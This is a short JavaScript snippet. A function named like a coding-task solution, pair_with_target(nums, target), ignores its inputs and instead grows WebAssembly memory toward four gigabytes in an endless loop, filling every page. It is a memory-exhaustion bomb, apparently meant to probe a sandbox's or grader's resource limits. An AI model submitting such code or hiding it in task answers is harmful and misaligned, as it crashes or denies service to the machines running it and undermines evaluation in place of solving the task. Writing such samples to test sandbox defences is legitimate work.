// Four gigabytes of WebAssembly memory, every page of it touched.
function pair_with_target(nums, target) {
    const memory = new WebAssembly.Memory({ initial: 1, maximum: 65536 });
    for (;;) {
        memory.grow(256);
        new Uint8Array(memory.buffer).fill(1);
    }
}
